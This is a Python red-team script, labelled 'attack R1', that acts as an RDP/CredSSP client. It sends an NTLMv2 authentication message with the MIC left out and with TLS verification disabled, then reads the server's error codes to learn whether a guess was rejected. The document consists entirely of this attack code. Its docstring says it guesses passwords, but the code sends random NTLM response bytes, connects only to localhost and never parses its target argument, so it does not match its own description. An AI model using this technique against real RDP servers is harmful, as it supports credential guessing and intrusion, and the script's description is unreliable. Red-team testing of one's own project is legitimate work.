"""A scripted RDP client that guesses a password with NTLMv2 but without the MIC, so the box's
NTLM check passes and only the pubKeyAuth step tells the guess was wrong (as MessageAltered, not
LogonDenied). Usage: rdp_nomic_guess.py PORT USER@TARGET COUNT. Prints the server's error codes.
Written by the red team of the project (attack R1)."""
import os, socket, ssl, struct, sys

RDP_PORT = int(sys.argv[1])

def der_len(n):
    if n < 0x80: return bytes([n])
    b = n.to_bytes((n.bit_length() + 7) // 8, "big"); return bytes([0x80 | len(b)]) + b
def tlv(tag, body): return bytes([tag]) + der_len(len(body)) + body
def ts_request(nego=None, pub_key_auth=None, nonce=None, version=6):
    body = tlv(0xA0, tlv(0x02, bytes([version])))
    if nego is not None: body += tlv(0xA1, tlv(0x30, tlv(0x30, tlv(0xA0, tlv(0x04, nego)))))
    if pub_key_auth is not None: body += tlv(0xA3, tlv(0x04, pub_key_auth))
    if nonce is not None: body += tlv(0xA5, tlv(0x04, nonce))
    return tlv(0x30, body)
def read_der(s):
    head = s.recv(2)
    if len(head) < 2: return b""
    n = head[1]
    if n & 0x80:
        k = n & 0x7F; n = int.from_bytes(s.recv(k), "big")
    buf = b""
    while len(buf) < n:
        c = s.recv(n - len(buf))
        if not c: break
        buf += c
    return buf

FLAGS = 0x1 | 0x4 | 0x10 | 0x20 | 0x200 | 0x8000 | 0x80000 | 0x800000 | 0x2000000 | 0x20000000 | 0x80000000
VERSION = bytes([10, 0, 0x63, 0x45, 0, 0, 0, 15])
def negotiate():
    return b"NTLMSSP\0" + struct.pack("<II", 1, FLAGS) + b"\0" * 16 + VERSION
def authenticate(user, domain=""):
    u, d, ws = user.encode("utf-16-le"), domain.encode("utf-16-le"), b""
    nt = os.urandom(16) + b"\x01\x01\0\0\0\0\0\0" + struct.pack("<Q", 0) + os.urandom(8) + b"\0" * 4 + b"\0\0\0\0" + b"\0" * 4
    lm = b"\0" * 24
    off = 88; fields = b""; payload = b""
    for part in (lm, nt, d, u, ws, b""):
        fields += struct.pack("<HHI", len(part), len(part), off + len(payload)); payload += part
    return b"NTLMSSP\0" + struct.pack("<I", 3) + fields + struct.pack("<I", FLAGS) + VERSION + b"\0" * 16 + payload

def attempt(user, src="127.0.0.1"):
    s = socket.create_connection(("127.0.0.1", RDP_PORT), source_address=(src, 0), timeout=10)
    neg = struct.pack("<BBHI", 1, 0, 8, 3)
    x224 = bytes([len(neg) + 6, 0xE0, 0, 0, 0, 0, 0]) + neg
    s.sendall(struct.pack(">BBH", 3, 0, 4 + len(x224)) + x224)
    cc = s.recv(1024)
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
    t = ctx.wrap_socket(s)
    t.sendall(ts_request(nego=negotiate()))
    challenge = read_der(t)
    t.sendall(ts_request(nego=authenticate(user), pub_key_auth=os.urandom(16 + 270), nonce=os.urandom(32)))
    reply = read_der(t); t.close()
    # errorCode [4] INTEGER
    i = reply.find(b"\xa4")
    return reply[i:i + 12].hex() if i >= 0 else f"no error code ({len(reply)} bytes)"


if __name__ == "__main__":
    user, n = sys.argv[2], int(sys.argv[3])
    res = [attempt(user) for _ in range(n)]
    print("codes", sorted(set(res)))
